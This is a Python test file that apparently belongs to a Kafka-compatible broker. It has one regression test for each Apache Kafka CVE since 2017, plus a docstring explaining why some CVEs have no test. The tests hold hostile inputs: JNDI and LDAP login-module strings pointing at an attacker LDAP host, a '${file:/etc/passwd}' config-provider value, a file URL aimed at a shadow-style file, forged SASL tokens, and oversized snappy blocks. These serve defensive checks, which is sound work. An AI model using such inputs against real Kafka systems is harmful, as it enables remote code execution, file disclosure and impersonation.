"""Every vulnerability of Apache Kafka's own list since 2017: a test by its number, or why there is none.

The list is kafka.apache.org/cve-list, up to CVE-2025-27819, and CVE-2026-35554 of its clients.

    CVE-2017-12610  another user by a crafted token of PLAIN or SCRAM
    CVE-2018-1288   Fetch as a replica moves the high watermark: data loss
    CVE-2018-17196  Produce around the ACLs of transactional ids
    CVE-2021-38153  the time that a comparison of passwords takes: it is seen what is compared
    CVE-2022-34917  memory for what strangers announce
    CVE-2023-25194  JndiLoginModule in sasl.jaas.config (Connect): no class is loaded by its name
    CVE-2023-34455  a snappy block that claims gigabytes
    CVE-2024-27309  the ACLs beside one that is removed are lost (ZooKeeper): seen on the image
    CVE-2024-31141  config providers read files and the environment: there are none
    CVE-2024-56128  SCRAM's last message with another nonce
    CVE-2025-27817  files by sasl.oauthbearer.token.endpoint.url, whose content was shown. Whoever sets a
                    client up chooses it, here as there: such options are read in the tasks of a job
    CVE-2025-27818  LdapLoginModule in sasl.jaas.config
    CVE-2025-27819  the same by AlterConfigs on brokers

Without a test, because they cannot be here:

    CVE-2019-12399  secrets of connectors in Connect's REST API: there is no Connect
    CVE-2021-4104   log4j 1, and so 2022-23302, 2022-23305, 2022-23307; log4j 2: 2021-44228, 2021-45046. No
                    broker has Java; the driver's log4j is Spark's, and gets no text that came by the wire
    CVE-2026-35554  a batch that has expired is overwritten while it is sent: no buffer is used again
"""

import hmac
import struct
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from kio.schema.sasl_authenticate.v2.request import SaslAuthenticateRequest

from sparklog.node.acls.acl import (
    Acl,
    AclOperation,
    AclPermissionType,
    AclResourceType,
    PatternType,
    Principal,
)
from sparklog.node.acls.machine.authorizer import Authorizer, AuthorizerSettings
from sparklog.node.apis.cluster_actions import cluster_actions, guarded_cluster_actions
from sparklog.node.apis.listeners import listener_guards
from sparklog.node.apis.row import Side
from sparklog.node.authorization.guards.guard import filled, item_type
from sparklog.node.config import BrokerConfig
from sparklog.node.config.definition import ConfigError
from sparklog.node.config.dynamic import check_dynamic
from sparklog.node.config.listener_security.listener_sasl import listener_authentication
from sparklog.node.metadata.acl_records import acl_record
from sparklog.node.metadata.image import EMPTY_IMAGE
from sparklog.node.metadata.replay import replay_records
from sparklog.node.metadata.schemas import RemoveAccessControlEntryRecord
from sparklog.node.security.sasl import plain, scram
from sparklog.node.security.sasl.mechanism import SaslError, ServerMechanism
from sparklog.node.security.sasl.plain import PlainVerification
from sparklog.node.security.sasl.scram import SCRAM_SHA_256, ScramCredential, ScramLogin, ScramVerification
from sparklog.node.serving.buffers import INITIAL_BUFFER_BYTES
from sparklog.node.serving.requests import ANONYMOUS, Api, Request
from sparklog.protocol.codec.apis import ApiKey, request_type
from sparklog.protocol.codec.guard import MalformedRequestError, decode_entity
from sparklog.protocol.errors import ErrorCode, KafkaError
from sparklog.protocol.records.codecs import (
    Codec,
    CorruptPayloadError,
    DecompressionLimitError,
    decompressed_pieces,
)
from sparklog.user.dataframe.errors import DataSourceOptionError
from sparklog.user.dataframe.options import ReadOptions
from tests.unit.executor.brokers import Brokers, with_brokers
from tests.unit.executor.requests import batch, produce, rows
from tests.unit.sparklog.node.authorization.guards.guarding import Guarding

ANN, BOB = Principal("User", "ann"), Principal("User", "bob")
PASSWORD = "ann's own"
CREDENTIAL = ScramCredential.of_password(SCRAM_SHA_256, PASSWORD, 4096)
JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://10.6.6.6/a";'
LDAP = 'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://10.6.6.6/a";'


def scram_server() -> ScramVerification:
    """A server that knows ann."""
    return ScramVerification(SCRAM_SHA_256, lambda name: CREDENTIAL if name == "ann" else None)


@pytest.mark.parametrize(
    ("mechanism", "token"),
    [
        (PlainVerification({"ann": PASSWORD}), f"bob\0ann\0{PASSWORD}".encode()),
        (scram_server(), b"n,a=bob,n=ann,r=nonce"),
    ],
)
def test_cve_2017_12610_who_asks_to_be_somebody_else_is_refused(
    mechanism: ServerMechanism, token: bytes
) -> None:
    """With his own password one could be anybody, by one field of the first token."""
    with pytest.raises(SaslError, match=r"bob|authorization id"):
        mechanism.respond(token)
    assert mechanism.principal is None


def test_cve_2018_1288_forged_fetch_of_a_follower_is_refused() -> None:
    """It says how far a replica has come, so records would count as replicated that are nowhere."""
    apis = guarded_cluster_actions(
        {ApiKey.FETCH: Api(4, 17, lambda request: None)},
        cluster_actions(Side.BROKER, BrokerConfig.from_mapping({})),
    )
    body_type = request_type(ApiKey.FETCH, 17)
    state = filled(item_type(body_type, "replica_state"), replica_id=1, replica_epoch=-1)
    notes: list[str] = []

    class Connection:
        def note(self, reason: str, what: str) -> None:
            notes.append(what)

    connection: Any = Connection()
    request = Request(
        ApiKey.FETCH, 17, 1, None, filled(body_type, replica_state=state), memoryview(b""), connection, "A"
    )
    for principal in (ANONYMOUS, ANN, Principal("Application", "sparklog")):
        request.principal = principal
        answer = apis[ApiKey.FETCH].handler(request)
        assert answer.error_code is ErrorCode.cluster_authorization_failed
    assert len(notes) == 3


@with_brokers(count=1)
async def test_cve_2018_17196_records_of_a_transaction_need_its_id(brokers: Brokers) -> None:
    """By leaving out the id in the request one wrote into anybody's transactions."""
    topic_id = await brokers.create_topic("t", [(0,)])
    channel = await brokers.connect(0)
    records = batch(producer_id=7, producer_epoch=0, base_sequence=0, transactional=True)
    (row,) = rows(await channel.request(produce(topic_id, records)))
    assert row.error_code is ErrorCode.transactional_id_authorization_failed
    assert brokers.replica(0, topic_id).log.log_end_offset == 0


def test_cve_2018_17196_records_of_a_transaction_need_the_right_to_its_id() -> None:
    """WRITE on the topic is not enough, in whichever batch of a request they are."""
    allowed = [(AclOperation.WRITE, AclResourceType.TOPIC, "mine")]
    guarding = Guarding(listener_guards(Side.BROKER, BrokerConfig.from_mapping({}))[ApiKey.PRODUCE], allowed)
    body_type = request_type(ApiKey.PRODUCE, 12)
    topic_type, data_type = (
        item_type(body_type, "topic_data"),
        item_type(body_type, "topic_data", "partition_data"),
    )
    of_producer = {"producer_id": 7, "producer_epoch": 0, "base_sequence": 0}
    for records in (
        (batch(**of_producer, transactional=True),),
        (batch(), batch(**of_producer, transactional=True)),
    ):
        data = tuple(filled(data_type, index=index, records=each) for index, each in enumerate(records))
        body = filled(
            body_type,
            transactional_id="another's",
            acks=-1,
            topic_data=(filled(topic_type, name="mine", partition_data=data),),
        )
        answer = guarding.ask(ApiKey.PRODUCE, 12, body)
        client_message = {row.error_code for topic in answer.responses for row in topic.partition_responses}
        assert client_message == {ErrorCode.transactional_id_authorization_failed}
    assert guarding.handled == []


@pytest.mark.parametrize("password", ["", "a", "ann's owm", "another one that is far longer than hers"])
def test_cve_2021_38153_password_is_compared_as_a_whole(
    monkeypatch: pytest.MonkeyPatch, password: str
) -> None:
    """A comparison that ends with the first difference tells how much was right. Names are told as little: of
    a user who is not there a password is compared, too."""
    compared: list[tuple[bytes, bytes]] = []

    def compare(one: Any, other: Any) -> bool:
        compared.append((one, other))
        return hmac.compare_digest(one, other)

    monkeypatch.setattr(plain, "compare_digest", compare)
    for user in ("ann", "nobody"):
        with pytest.raises(SaslError) as refused:
            PlainVerification({"ann": PASSWORD}).respond(f"\0{user}\0{password}".encode())
        assert (
            not password
            or refused.value.client_message == "Authentication failed: Invalid username or password"
        )
    assert [one for one, _ in compared] == [password.encode()] * 2 * bool(password)
    assert all(other != b"" for _, other in compared)


def test_cve_2021_38153_proof_is_compared_as_a_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    """The same for SCRAM's keys, on both sides."""
    compared: list[int] = []

    def compare(one: Any, other: Any) -> bool:
        compared.append(len(other))
        return hmac.compare_digest(one, other)

    monkeypatch.setattr(scram, "compare_digest", compare)
    login, server = ScramLogin(SCRAM_SHA_256, "ann", "wrong"), scram_server()
    with pytest.raises(SaslError, match="wrong password"):
        server.respond(login.respond(server.respond(login.first())) or b"")
    with pytest.raises(SaslError, match="does not know"):
        login.respond(b"v=AAAA")
    assert len(compared) == 4 and 32 in compared


def test_cve_2022_34917_bytes_that_a_token_announces_are_not_allocated() -> None:
    """A stranger's SaslAuthenticate of a few bytes took gigabytes: it said that so many would come."""
    for announced in (2**31 - 1, 100 << 20, 513):
        frame = bytes([0xFF & announced]) + struct.pack(">i", announced)
        with pytest.raises(MalformedRequestError):
            decode_entity(SaslAuthenticateRequest, b"\xff\xff\xff\xff\x07" + frame)
    old = request_type(ApiKey.SASL_AUTHENTICATE, 0)
    with pytest.raises(MalformedRequestError, match="2147483"):
        decode_entity(old, struct.pack(">i", 2**31 - 1))
    assert INITIAL_BUFFER_BYTES <= 512 << 10  # what a connection has before it has sent more


@pytest.mark.parametrize(
    "payload",
    [
        b"\x82SNAPPY\0" + struct.pack(">iii", 1, 1, 0x7FFFFFFF) + b"\0",
        b"\x82SNAPPY\0" + struct.pack(">iii", 1, 1, -1) + b"\0",
        b"\x82SNAPPY\0" + struct.pack(">iii", 1, 1, 5) + b"\xff\xff\xff\xff\x07",
        b"\xff\xff\xff\xff\x07",
    ],
)
def test_cve_2023_34455_snappy_block_that_claims_gigabytes_is_refused(payload: bytes) -> None:
    """Whoever may produce could end a broker, whose reader reserved what a block announced."""
    with pytest.raises((CorruptPayloadError, DecompressionLimitError)):
        list(decompressed_pieces(Codec.SNAPPY, payload, 1 << 20))


@pytest.mark.parametrize("text", [JNDI, LDAP])
@pytest.mark.parametrize("mechanism", ["PLAIN", "SCRAM-SHA-512"])
def test_cve_2023_25194_and_2025_27818_login_modules_of_java_are_refused(text: str, mechanism: str) -> None:
    """They are classes that ask a directory of the attacker's, and run what it answers. Here no class is
    loaded by its name, and no other module is taken for one of Kafka's."""
    options = {
        "subscribe": "t",
        "kafka.bootstrap.servers": "h:1",
        "kafka.security.protocol": "SASL_SSL",
        "kafka.sasl.mechanism": mechanism,
        "kafka.sasl.jaas.config": text,
    }
    with pytest.raises(DataSourceOptionError, match="must name the login module") as refused:
        ReadOptions.parse(options, None)
    assert "10.6.6.6" not in str(refused.value)


def test_cve_2025_27817_content_of_a_file_that_is_no_token_is_not_shown(tmp_path: Path) -> None:
    """Errors showed it, and so to whoever reads the log what whoever runs the client may read."""
    path = tmp_path / "shadow"
    options = {
        "subscribe": "t",
        "kafka.bootstrap.servers": "h:1",
        "kafka.security.protocol": "SASL_SSL",
        "kafka.sasl.mechanism": "OAUTHBEARER",
        "kafka.sasl.jaas.config": "a.OAuthBearerLoginModule required;",
        "kafka.sasl.oauthbearer.token.endpoint.url": path.as_uri(),
    }
    path.write_text("root:$6$hash:20000\nann:$6$other:20000\n")
    login = ReadOptions.parse(options, None).client.login
    assert login is not None
    with pytest.raises(KafkaError, match="does not hold a token") as refused:
        login("h:1")
    client_message: BaseException | None = refused.value
    while client_message is not None:
        assert "hash" not in str(client_message)
        client_message = client_message.__cause__
    with pytest.raises(DataSourceOptionError, match="must be a URL of https, http or file"):
        ReadOptions.parse({**options, "kafka.sasl.oauthbearer.token.endpoint.url": "ftp://h/a"}, None)


@pytest.mark.parametrize("text", [JNDI, LDAP])
def test_cve_2025_27819_brokers_take_no_login_module_from_alter_configs(text: str) -> None:
    """Who may alter configs is not to run code; nor does a broker that is started with such a module."""
    config = BrokerConfig.from_mapping({})
    for key in ("sasl.jaas.config", "listener.name.plaintext.plain.sasl.jaas.config"):
        with pytest.raises(KafkaError) as refused:
            check_dynamic(config, config, {key: text}, of_all_brokers=True)
        assert refused.value.error_code in (ErrorCode.invalid_request, ErrorCode.invalid_config)
        assert "10.6.6.6" not in str(refused.value)
    started = BrokerConfig.from_mapping(
        {
            "listeners": "INSIDE://127.0.0.1:0,SASL_PLAINTEXT://127.0.0.1:0",
            "listener.security.protocol.map": "INSIDE:PLAINTEXT,SASL_PLAINTEXT:SASL_PLAINTEXT",
            "listener.name.sasl_plaintext.sasl.enabled.mechanisms": "PLAIN",
            "listener.name.sasl_plaintext.plain.sasl.jaas.config": text,
        }
    )
    with pytest.raises(ConfigError, match="PlainLoginModule") as unstarted:
        listener_authentication(started, "SASL_PLAINTEXT", {}, lambda user, mechanism: None)
    assert "10.6.6.6" not in str(unstarted.value)


def test_cve_2024_27309_acls_beside_one_that_is_removed_hold_on() -> None:
    """With three about a resource, the removal of one left one of the others: a DENY may have been lost."""

    def acl(
        principal: str, permission: AclPermissionType, operation: AclOperation = AclOperation.READ
    ) -> Acl:
        return Acl(
            AclResourceType.TOPIC, PatternType.LITERAL, "orders", principal, "*", operation, permission
        )

    acls = [
        acl("User:*", AclPermissionType.ALLOW),
        acl("User:bob", AclPermissionType.DENY),
        acl("User:ann", AclPermissionType.ALLOW, AclOperation.WRITE),
        acl("User:ann", AclPermissionType.DENY, AclOperation.ALTER),
    ]
    created = [acl_record(UUID(int=number), each) for number, each in enumerate(acls, 1)]
    for removed in range(1, len(acls) + 1):
        image, _ = replay_records(
            EMPTY_IMAGE, [*created, RemoveAccessControlEntryRecord(id=UUID(int=removed))], 0, 1
        )
        left = [each for number, each in enumerate(acls, 1) if number != removed]
        assert sorted(map(str, image.acls.values())) == sorted(map(str, left))
        decisions = Authorizer(image.acls.values(), AuthorizerSettings()).decisions(BOB, "10.0.0.1")
        is_allowed = decisions.allows(AclOperation.READ, AclResourceType.TOPIC, "orders")
        assert is_allowed == (removed == 2), "bob's DENY holds unless it is the one that was removed"


def test_cve_2024_31141_values_that_name_files_or_variables_are_taken_as_they_stand() -> None:
    """Kafka's clients replaced them, wherever a value came from."""
    named = "${file:/etc/passwd:root}"
    options = {"subscribe": "t", "kafka.bootstrap.servers": "h:1", "kafka.client.id": named}
    read = ReadOptions.parse(options, None, report=lambda _: None)
    assert read.client.client_id == named
    with pytest.raises(DataSourceOptionError, match=r"'config\.providers' is not supported"):
        ReadOptions.parse({**options, "kafka.config.providers": "file"}, None)
    config = BrokerConfig.from_mapping({"ssl.keystore.password": "${env:HOME}"})
    assert config.ssl_keystore_password is not None
    assert config.ssl_keystore_password.value == "${env:HOME}"


def test_cve_2024_56128_last_message_with_another_nonce_is_refused() -> None:
    """What was overheard of one exchange opened another: the server did not look at its own nonce."""
    overheard = ScramVerification(SCRAM_SHA_256, {"ann": CREDENTIAL}.get, nonce="first")
    login = ScramLogin(SCRAM_SHA_256, "ann", PASSWORD, nonce="client")
    final = login.respond(overheard.respond(login.first())) or b""
    assert overheard.respond(final).startswith(b"v=")
    for nonce in ("second", "", "xfirst"):
        other = ScramVerification(SCRAM_SHA_256, {"ann": CREDENTIAL}.get, nonce=nonce)
        other.respond(login.first())
        with pytest.raises(SaslError, match="of another exchange"):
            other.respond(final)
        assert other.principal is None
